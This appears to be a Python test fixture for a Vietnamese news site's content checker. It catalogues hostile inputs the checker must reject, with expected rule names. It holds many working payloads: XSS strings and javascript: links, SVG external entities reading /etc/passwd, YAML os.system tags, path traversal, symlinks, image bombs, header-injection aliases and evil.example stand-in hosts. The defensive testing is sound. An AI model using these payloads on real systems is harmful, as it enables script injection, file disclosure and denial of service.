"""Hostile inputs that `make check` has to refuse: a name, the files they consist of, the rule, and the line to mend."""

from __future__ import annotations

import io
import json
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from PIL import Image

from tests.sample_content import ARTICLE, LOCALITY, OFFICIAL, SITE, Files, article

NEWS = "news/2018/hop-thu.md"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
FOOT = 14
"""The last line of the sample article; what `body` adds stands two lines further down."""


@dataclass(frozen=True)
class Refused:
    """A hostile input. `path` is the file that the problem names, `links` are symbolic links by name and goal."""

    name: str
    files: Files
    rule: str
    path: str = NEWS
    line: int | None = None
    links: dict[str, str] = field(default_factory=dict)
    raw_names: tuple[bytes, ...] = ()
    """Names of files below the content that no text can spell; they hold the sample article."""


def body(name: str, text: str, rule: str, line: int | None = FOOT + 2) -> Refused:
    return Refused(f"body: {name}", {NEWS: f"{ARTICLE}\n{text}\n"}, rule, line=line)


def front(name: str, rule: str, line: int | None = None, **keys: str) -> Refused:
    return Refused(f"front matter: {name}", {NEWS: article(**keys)}, rule, line=line)


def header(name: str, text: str, rule: str, line: int | None = None) -> Refused:
    return Refused(f"yaml: {name}", {NEWS: f"---\n{text}\n---\nChữ.\n"}, rule, line=line)


def site(name: str, lines: str, rule: str) -> Refused:
    return Refused(f"site.yaml: {name}", {"site.yaml": f"{SITE}{lines}\n"}, rule, "site.yaml", 8)


def drawing(name: str, inside: str, rule: str, whole: bool = False) -> Refused:
    return Refused(f"drawing: {name}", {"images/a.svg": inside if whole else SVG.format(inside)}, rule, "images/a.svg")


def picture(name: str, file: str, data: bytes, rule: str) -> Refused:
    return Refused(f"picture: {name}", {f"images/{file}": data}, rule, f"images/{file}")


def media(name: str, file: str, data: bytes, rule: str) -> Refused:
    return Refused(f"media: {name}", {f"media/{file}": data}, rule, f"media/{file}")


def boundaries(name: str, document: Any, rule: str) -> Refused:
    text = document if isinstance(document, str | bytes) else json.dumps(document)
    return Refused(f"map: {name}", {"maps/thu-nghiem.geojson": text}, rule, "maps/thu-nghiem.geojson")


def named(name: str, path: str, data: str | bytes, shown: str) -> Refused:
    return Refused(f"name of a file: {name}", {path: data}, "bad-file-name", shown)


def link(name: str, path: str, goal: str, rule: str = "outside-content") -> Refused:
    return Refused(f"link: {name}", {}, rule, path, links={path: goal})


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")


def saved(form: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (80, 60), (200, 30, 30)).save(buffer, form, **options)
    return buffer.getvalue()


def ring(*points: tuple[float, float], **properties: Any) -> dict[str, Any]:
    geometry = {"type": "Polygon", "coordinates": [[list(point) for point in points]]}
    return {
        "type": "FeatureCollection",
        "edition": "2018",
        "origin": "Bản đồ bịa",
        "features": [{"type": "Feature", "properties": {"code": "99001", **properties}, "geometry": geometry}],
    }


DOUBLED = "".join(f'<g id="a{n + 1}"><use href="#a{n}"/><use xlink:href="#a{n}"/></g>' for n in range(40))
JPEG = saved("JPEG")
PAGE = b"<!doctype html><html><script>alert(1)</script></html>"

BODIES = [
    body("script", "<script>alert(1)</script>", "raw-script"),
    body("script in capitals", "<ScRiPt>alert(1)</sCrIpT>", "raw-script"),
    body("script with a slash", "<script/src=//evil.example/x.js></script>", "raw-script"),
    body("script never closed", "<script>alert(1)", "raw-script"),
    body("script without its end", "chữ <script", "raw-script"),
    body("script within a script", "<scr<script>ipt>alert(1)</scr</script>ipt>", "raw-script"),
    body("script of a drawing", "<svg><script>alert(1)</script></svg>", "raw-script"),
    body("drawing that loads", "<svg/onload=alert(1)>", "raw-script"),
    body("style within a drawing", "<svg><style><img src=x onerror=alert(1)></style></svg>", "raw-script"),
    body("formula", "<math><mtext><table><mglyph><style><img src=1 onerror=alert(1)>", "raw-script"),
    body("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "raw-script"),
    body("template", "<template><img src=x onerror=alert(1)></template>", "raw-script"),
    body("frame", "<iframe src=//evil.example></iframe>", "raw-script"),
    body("frame of its own", '<iframe srcdoc="<script>alert(1)</script>">', "raw-script"),
    body("object", '<object data="data:text/html,x"></object>', "raw-script"),
    body("embed", "<embed src=//evil.example/x.swf>", "raw-script"),
    body("base", "<base href=//evil.example/>", "raw-script"),
    body("refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">', "raw-script"),
    body("style sheet", "<link rel=stylesheet href=//evil.example/a.css>", "raw-script"),
    body("style", "<style>@import '//evil.example/a.css'</style>", "raw-script"),
    body("form", "<form action=//evil.example><button>Đăng nhập</button></form>", "raw-script"),
    body("handler", "<img src=x onerror=alert(1)>", "event-handler"),
    body("handler without a space", '<img src="x"onerror=alert(1)>', "event-handler"),
    body("handler after a slash", "<b/onclick=alert(1)>a</b>", "event-handler"),
    body("handler of an unknown element", "<x onpointerover=alert(1)>a</x>", "event-handler"),
    body("handler in a line that is not closed", "<img src=x onerror=alert(1) ", "event-handler"),
    body("handler in braces", "# Mục {onclick=alert(1)}", "event-handler"),
    body("style in braces", '# Mục {style="position:fixed;inset:0"}', "unknown-attribute"),
    body("button", "<button>Bấm</button>", "raw-html"),
    body("input that takes the focus", "<input autofocus>", "raw-html"),
    body("comment of old browsers", "<!--[if IE]><script>alert(1)</script><![endif]-->", "raw-html"),
    body("doctype", "<!DOCTYPE html>", "raw-html"),
    body("section of characters", "<![CDATA[<script>alert(1)</script>]]>", "raw-html"),
    body("element of its own", "<x-bt-menu>a</x-bt-menu>", "raw-html"),
    body("title with a handler", '<abbr title="x" onmouseover="alert(1)">UB</abbr>', "event-handler"),
    body("link to a script", "[bấm](javascript:alert(1))", "unsafe-link"),
    body("link in mixed case", "[bấm](JaVaScRiPt:alert(1))", "unsafe-link"),
    body("link in entities", "[bấm](&#x6a;avascript:alert(1))", "unsafe-link"),
    body("link in entities without an end", "[bấm](&#106&#97&#118ascript:alert(1))", "unsafe-link"),
    body("link in entities of entities", "[bấm](&amp;#106;avascript:alert(1))", "unsafe-link"),
    body("link with a tab", "[bấm](<java\tscript:alert(1)>)", "unsafe-link", None),
    body("link with a line end as entity", "[bấm](java&#10;script:alert(1))", "unsafe-link"),
    body("link with a colon as entity", "[bấm](javascript&colon;alert(1))", "unsafe-link"),
    body("link with a control character", "[bấm](&#1;javascript:alert(1))", "unsafe-link"),
    body("link to data", "[bấm](data:text/html;base64,PHNjcmlwdD4=)", "unsafe-link"),
    body("link to vbscript", "[bấm](vbscript:msgbox)", "unsafe-link"),
    body("link to a file of the reader", "[bấm](file:///etc/passwd)", "unsafe-link"),
    body("link to a blob", "[bấm](blob:https://x.example/1)", "unsafe-link"),
    body("link through a view of the source", "[bấm](view-source:https://x.example)", "unsafe-link"),
    body("link without a scheme", "[bấm](//evil.example/)", "unsafe-link"),
    body("link with backslashes", r"[bấm](/\\evil.example/)", "unsafe-link"),
    body("link that shows another host", "[chinhphu.vn](https://chinhphu.vn@evil.example/)", "unsafe-link"),
    body("link with a password", "[bấm](https://a:b@evil.example/)", "unsafe-link"),
    body("host in Cyrillic", "[bấm](https://\u0440\u0430\u0443.example/)", "unsafe-link"),
    body("host with a Greek letter as entity", "[bấm](https://g&#x3bf;v.example/)", "misleading-letter"),
    body("link out of the content", "[bấm](../../../../etc/passwd.md)", "unknown-page"),
    body("link by reference", "[bấm][1]\n\n[1]: javascript:alert(1)", "unsafe-link", FOOT + 4),
    body("letter that adds a receiver", "[thư](mailto:a%0d%0abcc:b@x.example)", "bad-link"),
    body("telephone that dials codes", "[gọi](tel:*%2306%23)", "bad-link"),
    body("foreign picture", "![a](https://evil.example/x.png)", "foreign-picture"),
    body("foreign picture without a scheme", "![a](//evil.example/x.png)", "foreign-picture"),
    body("picture of data", "![a](data:image/svg+xml,<svg/onload=alert(1)>)", "bad-picture"),
    body("picture that is a script", "![a](javascript:alert(1))", "bad-picture"),
    body("picture out of its folder", "![a](../../../etc/passwd)", "bad-picture"),
    body("picture by an absolute path", "![a](/etc/passwd)", "bad-picture"),
    body("picture that is the card", "![a](../site.yaml)", "bad-picture"),
    body("video out of its folder", "![a](../../../../x.mp4)", "bad-video"),
    body("too many quotes", ">" * 3000 + " a", "too-deep", None),
    body("too many lists", "\n".join("  " * n + "- a" for n in range(600)), "too-long", None),
    body("a bomb of brackets", "[" * 60_000, "too-tangled", None),
    body("a bomb of stars", "*a **" * 20_000, "too-long", None),
    body("Cyrillic within a word", "Uỷ b\u0430n nhân dân", "misleading-letter"),
    body("letters of mathematics", "\U0001d413\U0001d421ông báo", "misleading-letter"),
    body("wide letters", "\uff34hông báo", "misleading-letter"),
    body("heaped marks", "chữ Z" + "\u0336\u0337\u0334" * 20, "heaped-marks"),
    body("blank letter", "chữ \u3164 trống", "blank-letter"),
    body("blank letter as entity", "chữ &#x3164; trống", "blank-letter"),
]
FRONTS = [
    front("Cyrillic in a title", "misleading-letter", 2, title="H\u043ep thử"),
    front("Cyrillic as an escape", "misleading-letter", 2, title=r'"H\u043ep thử"'),
    front("blank title", "blank-letter", 2, title=r'"\u3164"'),
    front("heaped marks in a tag", "heaped-marks", 6, tags='["Z' + "\u0336" * 9 + '"]'),
    front("address of a script", "bad-address", 12, imported_from='{url: "javascript:alert(1)"}'),
    front("address that shows another", "bad-address", 12, imported_from='{url: "https://a.vn@evil.example/"}'),
    front("address with a quotation mark", "bad-address", 12, source="""{name: A, url: 'https://a"onclick=x//'}"""),
    front("address without a host", "bad-address", 12, source='{name: A, url: "https:///x"}'),
    front("output elsewhere", "unknown-key", 12, save_as="../../x.html"),
    front("address elsewhere", "unknown-key", 12, url="//evil.example/"),
    front("template", "unknown-key", 12, template="../../../etc/passwd"),
    front("slug with a path", "bad-slug", 12, slug="../x"),
    front("slug of the server", "bad-slug", 12, slug="_headers"),
    front("slug with a suffix", "bad-slug", 12, slug="index.html"),
    front("slug that is hidden", "bad-slug", 12, slug=".htaccess"),
    front("slug with markup", "bad-slug", 12, slug='"x\\"><script>"'),
    front("slug without an end", "bad-slug", 12, slug="a" * 300),
    front("picture out of its folder", "picture", 12, image="{file: ../../../etc/passwd, alt: a}"),
    front("picture elsewhere", "picture", 12, image='{file: "https://evil.example/x.png", alt: a}'),
    front("language with markup", "bad-language", 12, lang='"vi\\" onload=\\"x"'),
    front("place out of its folder", "unknown-locality", 7, localities="[../../etc/passwd]"),
    front("section with markup", "unknown-section", 5, section='"<script>"'),
    front("status with a command", "unknown-choice", 12, status='"::error::x"'),
    front("endless number for a day", "bad-date", 3, date="9" * 5000),
    front("day before all days", "bad-date", 3, date="0000-00-00"),
    front("old address above the site", "bad-alias", 12, aliases="[/../x]"),
    front("old address above the site, encoded", "bad-alias", 12, aliases="[/%2e%2e/x]"),
    front("old address of another host", "bad-alias", 12, aliases="[//evil.example/]"),
    front("old address with a scheme", "bad-alias", 12, aliases='["https://evil.example/"]'),
    front("old address with two lines", "bad-alias", 12, aliases='["/a%0d%0aSet-Cookie:x"]'),
    front("old address with a variable", "bad-alias", 12, aliases='["/$host/x"]'),
    front("old address that is an expression", "bad-alias", 12, aliases='["~^/(.*)$"]'),
    front("old address with a second rule", "bad-alias", 12, aliases='["/a https://evil.example/ 301"]'),
    front("old address that ends a block", "bad-alias", 12, aliases='["/a; } server {"]'),
    front("old address that is hidden", "bad-alias", 12, aliases="[/.git/config]"),
    front("old address of the server's rules", "bad-alias", 12, aliases="[/.htaccess]"),
    front("old address of certificates", "bad-alias", 12, aliases="[/.well-known/acme-challenge/x]"),
    front("old address without an end", "bad-alias", 12, aliases=f"[/{'a' * 300}/]"),
    front("old address of many folders", "bad-alias", 12, aliases=f"[/{'a/' * 3000}]"),
    front("old address nobody can see", "bad-alias", 12, aliases='["/%E2%80%AEgpj/"]'),
    front("old address in no encoding", "bad-alias", 12, aliases='["/%ff/"]'),
    front("old address of headers", "reserved-address", 12, aliases="[/_headers]"),
    front("old address of redirects", "reserved-address", 12, aliases="[/_redirects]"),
    front("old address of the home page", "reserved-address", 12, aliases="[/index.html]"),
    front("old address of the style sheet", "reserved-address", 12, aliases="[/theme/css/site.css]"),
    front("old address of the page of errors", "reserved-address", 12, aliases="[/404.html]"),
    front("old address of an article", "duplicate-address", 12, aliases="[/tin/2018/12/huyen-thu-nghiem-hop-thu/]"),
    Refused(
        "page: at the home of the news", {"pages/tin.md": "---\ntitle: A\n---\nB\n"}, "reserved-address", "pages/tin.md"
    ),
    Refused(
        "page: sound out of its folder",
        {"pages/a.md": "---\ntitle: A\nkind: song\ncomposer: B\naudio: ../../../etc/passwd\n---\nC\n"},
        "outside-content",
        "pages/a.md",
        5,
    ),
    Refused(
        "official: language with markup",
        {"officials/x.md": OFFICIAL.replace("name:", 'lang: "<b>"\nname:', 1)},
        "bad-language",
        "officials/x.md",
        2,
    ),
    Refused(
        "locality: id above its folder",
        {"localities/x.yaml": LOCALITY.replace("mau-mot\n", "../x\n", 1)},
        "bad-id",
        "localities/x.yaml",
    ),
]
CARDS = [
    site("link to a script", 'links: [{name: A, url: "javascript:alert(1)"}]', "bad-address"),
    site("link that shows another host", 'links: [{name: A, url: "https://chinhphu.vn@evil.example/"}]', "bad-address"),
    site("link with a quotation mark", "social: [{name: A, url: 'https://a\"onclick=x'}]", "bad-address"),
    site("link with markup", "social: [{name: A, url: 'https://a<script>'}]", "bad-address"),
    site("letter with a second receiver", 'email: "a?bcc=b%40evil.example&x=@thu.example"', "bad-email"),
    site("letter with two lines", 'email: "a%0d%0abcc:b@thu.example"', "bad-email"),
    site("letters of readers in the open", "feedback: {endpoint: 'http://evil.example/'}", "bad-address"),
    site("figures out of the content", "visitors: {provider: snapshot, file: ../../../etc/passwd}", "no-figures"),
    site("figures of the machine", "visitors: {provider: snapshot, file: /etc/passwd}", "no-figures"),
    site("counter that is a script", "visitors: {provider: live, url: 'javascript:x'}", "bad-address"),
    site("emblem out of its folder", "emblem: ../../../etc/passwd", "picture"),
    site("time zone that is a file", "time_zone: ../../../etc/passwd", "unknown-zone"),
    site("time zone by an absolute path", "time_zone: /etc/localtime", "unknown-zone"),
    site("language that is a folder", "languages: [vi, ../x]", "bad-language"),
]
YAMLS = [
    header("laughs", "a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nd: [*c, *c, *c]", "yaml-alias", 2),
    header("an alias of itself", "a: &a [*a]", "yaml-alias", 2),
    header("a key that is an anchor", "&a title: x", "yaml", None),
    header("merged keys", "a: &a {title: x}\n<<: *a", "yaml-alias", None),
    header("object of Python", "title: !!python/object/apply:os.system ['id']", "yaml-tag", 2),
    header("module of Python", "title: !!python/module:os", "yaml-tag", 2),
    header("name of Python", "title: !!python/name:os.system", "yaml-tag", 2),
    header("bytes", "title: !!binary aGVsbG8=", "yaml-tag", 2),
    header("tag of its own", "title: !include /etc/passwd", "yaml-tag", 2),
    header("directive", "%TAG ! tag:evil.example,2000:\ntitle: x", "yaml", None),
    header("second document", "title: x\n...\ntitle: y", "yaml", None),
    header("key twice", "title: A\ntitle: B", "duplicate-key", 3),
    header("key twice by an escape", 'title: A\n"t\\x69tle": B', "duplicate-key", 3),
    header("key that is a list", "? [a, b]\n: x", "yaml", None),
    header("nested without end", "a: " + "[" * 90_000, "too-long", 2),
    header("nested mappings", "a: " + "{a: " * 6000, "yaml", 2),
    header("thirteen levels", "a: " + "[" * 13 + "]" * 13, "too-deep", 2),
    header("huge number", "title: A\norder: " + "9" * 20_000, "unknown-key", 3),
    header("ten thousand keys", "\n".join(f"k{n}: 1" for n in range(10_000)), "too-many-faults", 0),
    header("a hundred kilobytes in one list", "tags: [" + "a, " * 33_000 + "] #x", "too-long", 2),
    header("more than may be read", "title: " + "a" * 250_000, "too-long", 2),
    header("comment that hides", "title: Họp #bí mật", "yaml-comment", 2),
    Refused("bytes: overlong slash", {NEWS: ARTICLE.encode() + b"\xc0\xaf"}, "not-utf-8", line=FOOT + 1),
    Refused("bytes: half of a pair", {NEWS: ARTICLE.encode() + b"\xed\xa0\xbc"}, "not-utf-8", line=FOOT + 1),
    Refused("bytes: UTF-16", {NEWS: ARTICLE.encode("utf-16")}, "not-utf-8", line=0),
    Refused("bytes: empty byte", {NEWS: ARTICLE.encode() + b"\0"}, "binary", line=0),
    Refused("bytes: too many", {NEWS: b"a" * 2_000_000}, "too-large", line=0),
]
NAMES = [
    named("two lines", "news/2018/a\n::error::b.md", ARTICLE, "news/2018/a\\x0a::error::b.md"),
    named("colours of a terminal", "news/2018/\x1b[2J\x1b[31m.md", ARTICLE, "news/2018/\\x1b[2J\\x1b[31m.md"),
    named("bell", "news/2018/a\x07.md", ARTICLE, "news/2018/a\\x07.md"),
    named("written from right to left", "news/2018/a\u202edm.md", ARTICLE, "news/2018/a\\u202edm.md"),
    named("zero width", "images/a\u200b.svg", SVG.format(""), "images/a\\u200b.svg"),
    named("markup", 'images/"><script>alert(1).svg', SVG.format(""), 'images/"><script>alert(1).svg'),
    named("option of a command", "news/2018/-rf.md", ARTICLE, "news/2018/-rf.md"),
    named("option of a command, for sounds", "media/-rf.mp3", b"ID3" + bytes(90), "media/-rf.mp3"),
    named("backslash", "images/a\\b.svg", SVG.format(""), "images/a\\b.svg"),
    named("device of Windows", "news/2018/aux.md", ARTICLE, "news/2018/aux.md"),
    named("stream of Windows", "news/2018/a.md:b.md", ARTICLE, "news/2018/a.md:b.md"),
    named("space at the end", "images/a.svg ", SVG.format(""), "images/a.svg "),
    named("without end", f"news/2018/{'ư' * 120}.md", ARTICLE, f"news/2018/{'ư' * 120}.md"),
    named("folder", "news/2018/a\x1b[31m/b.md", ARTICLE, "news/2018/a\\x1b[31m"),
    Refused(
        "name of a file: capitals",
        {"images/A.svg": SVG.format(""), "images/a.svg": SVG.format("")},
        "same-file-name",
        "images/a.svg",
    ),
    named("map", "maps/\x1b]0;x\x07.geojson", "{}", "maps/\\x1b]0;x\\x07.geojson"),
    Refused(
        "name of a file: no text", {}, "bad-file-name", "news/2018/a\\udcff.md", raw_names=(b"news/2018/a\xff.md",)
    ),
    Refused(
        "name of a file: no text, for pictures",
        {},
        "bad-file-name",
        "images/a\\udcff.svg",
        raw_names=(b"images/a\xff.svg",),
    ),
]
LINKS = [
    link("article", "news/2018/x.md", "/etc/passwd"),
    link("article by a relative path", "news/2018/x.md", "../../../outside.md"),
    link("article in a circle", "news/2018/x.md", "x.md", "broken-link"),
    link("article that is nowhere", "news/2018/x.md", "nowhere.md", "broken-link"),
    link("folder of articles", "news/2019", "/etc", "outside-content"),
    link("folder within the content", "news/2019", "2018", "linked-folder"),
    link("picture", "images/x.svg", "/etc/hostname"),
    link("picture that is the card", "images/x.svg", "../site.yaml"),
    link("sound", "media/x.mp3", "/etc/hostname"),
    link("captions", "media/x.vtt", "../../outside.vtt"),
    link("official", "officials/x.md", "/etc/passwd"),
    link("locality", "localities/x.yaml", "/etc/passwd"),
    link("page", "pages/x.md", "../../outside.md"),
    link("map", "maps/thu-nghiem.geojson", "/etc/passwd"),
    link("document", "documents/x.md", "/etc/passwd"),
    link("album", "albums/x.md", "/etc/passwd"),
]
DRAWINGS = [
    drawing("script", "<script>alert(1)</script>", "svg-script"),
    drawing(
        "script of another namespace",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "svg-script",
    ),
    drawing("page inside", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>', "svg-script"),
    drawing(
        "element of a page", '<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="//evil.example/x"/>', "svg-script"
    ),
    drawing("formula", '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"/>', "svg-script"),
    drawing("handler", '<rect onclick="alert(1)"/>', "event-handler"),
    drawing(
        "handler by a declaration",
        '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + SVG.format(""),
        "event-handler",
        True,
    ),
    drawing(
        "entity of a file",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG.format("&x;"),
        "svg-entity",
        True,
    ),
    drawing("laughs", '<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>' + SVG.format("&c;"), "svg-entity", True),
    drawing(
        "style sheet of another site",
        '<?xml-stylesheet href="//evil.example/a.css"?>' + SVG.format(""),
        "svg-foreign",
        True,
    ),
    drawing("import", '<style>@import "//evil.example/a.css";</style>', "svg-foreign"),
    drawing("import before an element", '<style>@import "//evil.example/a.css";<desc/></style>', "svg-script"),
    drawing("import in escapes", r"<style>@\69mport '//evil.example/a.css';</style>", "svg-foreign"),
    drawing("import in characters", '<style><![CDATA[@import "//evil.example/a.css";]]></style>', "svg-foreign"),
    drawing("fill from another site", '<rect fill="url(//evil.example/x#a)"/>', "svg-foreign"),
    drawing("style from another site", r'<rect style="fill:u\72l(//evil.example/x)"/>', "svg-foreign"),
    drawing("picture from another site", '<image href="https://evil.example/x.png"/>', "svg-foreign"),
    drawing("drawing in a drawing", '<image href="data:image/svg+xml,&lt;svg/&gt;"/>', "svg-foreign"),
    drawing("link to a script", '<a xlink:href="javascript:alert(1)"><text>a</text></a>', "svg-foreign"),
    drawing("link that tells", '<a href="#x" ping="//evil.example/"><text>a</text></a>', "svg-foreign"),
    drawing(
        "animation of a link", '<a><animate attributeName="href" values="javascript:alert(1)"/></a>', "svg-animation"
    ),
    drawing("base of addresses", '<g xml:base="https://evil.example/"/>', "svg-foreign"),
    drawing("parts of parts", '<g id="a0"><rect/></g>' + DOUBLED, "svg-too-heavy"),
    drawing("part of itself", '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "svg-too-heavy"),
    drawing("nested without end", "<g>" * 5000 + "</g>" * 5000, "too-deep"),
    drawing("endless size", SVG.replace("0 0 9 9", "0 0 1e99 1e99").format(""), "svg-size", True),
    drawing("page with the name of a drawing", PAGE.decode(), "not-a-picture", True),
]
PICTURES = [
    picture("bomb of 50,000 by 50,000 dots", "a.png", png(50_000, 50_000), "too-many-pixels"),
    picture("bomb of two thousand million dots", "a.png", png(2**31 - 1, 2**31 - 1), "too-many-pixels"),
    picture("without dots", "a.png", png(0, 0), "broken-picture"),
    picture("broken", "a.png", png(80, 60), "broken-picture"),
    picture("page with the name of a picture", "a.png", PAGE, "not-a-picture"),
    picture(
        "drawing with the name of a picture", "a.png", SVG.format("<script>alert(1)</script>").encode(), "wrong-suffix"
    ),
    picture("script of an animation", "a.gif", b"GIF89a/*" + PAGE + b"*/=1;", "broken-picture"),
    picture("empty", "a.jpg", b"", "empty"),
    picture("cut off", "a.jpg", JPEG[: len(JPEG) // 2], "broken-picture"),
    picture("program", "a.jpg", b"\x7fELF" + bytes(200), "not-a-picture"),
    picture("bundle", "a.jpg", b"PK\x03\x04" + bytes(200), "not-a-picture"),
    picture("document with a script", "a.jpg", b"%PDF-1.7\n/JS (app.alert(1))", "not-a-picture"),
    picture("too heavy", "a.jpg", JPEG + bytes(21_000_000), "too-large"),
    picture("of another kind", "a.webp", JPEG, "wrong-suffix"),
    media("page with the name of a sound", "a.mp3", PAGE, "not-a-sound"),
    media("page with the name of a video", "a.mp4", PAGE, "not-a-video"),
    media("sound with the name of a page", "a.html", b"ID3" + bytes(90), "wrong-suffix"),
    media("drawing", "a.svg", SVG.format("<script>alert(1)</script>").encode(), "not-a-sound"),
    media("video without an end", "a.mp4", b"\0\0\0\x18ftypisom" + bytes(90), "broken-video"),
    media("captions that are a page", "a.vtt", PAGE, "not-captions"),
    media("captions without times", "a.vtt", b"WEBVTT\n\n00:09.000 --> 00:01.000\n<b onclick=x>\n", "bad-cue"),
    media("empty sound", "a.mp3", b"", "empty"),
]
MAPS = [
    boundaries("not a number", '{"type": "FeatureCollection", "features": [NaN]}', "not-a-number"),
    boundaries("endless number", '{"type": "FeatureCollection", "features": [' + "9" * 9000 + "]}", "not-a-number"),
    boundaries("nested without end", "[" * 100_000, "nested-too-deeply"),
    boundaries("not JSON, with colours", '{"a": \x1b[31m', "not-json"),
    boundaries("other bytes", b'{"a": "\xff"}', "not-utf-8"),
    boundaries("page", PAGE, "not-json"),
    boundaries("list", [], "not-a-feature-collection"),
    boundaries("huge coordinates", ring((1e300, 1e300), (1e301, 1), (1, 1e301), (1e300, 1e300)), "not-a-number"),
    boundaries("too many features", {"type": "FeatureCollection", "features": [{}] * 2000}, "too-many-features"),
    boundaries("too many bytes", b" " * 11_000_000, "map-too-large"),
    boundaries("text for coordinates", ring(("<script>", 1), (2, 3), (3, 4), ("<script>", 1)), "malformed-coordinates"),
]
ALL = (*BODIES, *FRONTS, *CARDS, *YAMLS, *NAMES, *LINKS, *DRAWINGS, *PICTURES, *MAPS)


def prepare(attack: Refused, content: Path) -> None:
    """Add to a content folder what files alone can't say."""
    (content.parent / "outside.md").write_text(ARTICLE, encoding="utf-8")
    (content.parent / "outside.vtt").write_text("WEBVTT\n", encoding="utf-8")
    for name, goal in attack.links.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).symlink_to(goal)
    for raw in attack.raw_names:
        folder = content / raw.split(b"/")[0].decode()
        folder.mkdir(exist_ok=True)
        with open(bytes(content) + b"/" + raw, "wb") as file:  # noqa: PTH123 - pathlib takes no bytes
            file.write(SVG.format("").encode() if raw.endswith(b"svg") else ARTICLE.encode())
